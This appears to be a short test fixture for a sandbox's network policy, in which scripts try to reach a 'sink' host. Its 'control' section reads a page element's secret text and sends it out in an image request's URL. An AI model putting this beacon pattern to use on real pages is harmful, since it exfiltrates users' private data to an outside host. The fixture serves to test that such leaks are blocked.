//! guest = "app"
//! promise = "app-network"
//! policy = { resources = { inlineScripts = true } }
(async () => { document.head.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href: SINK + "/x" })); })().catch(() => {});
setTimeout(end, 250);
// --- control
const picture = new Image();
picture.src = `${stage.sink}/taken?${document.getElementById("secret").textContent}`;
await stage.until(() => picture.complete);
return "sent";
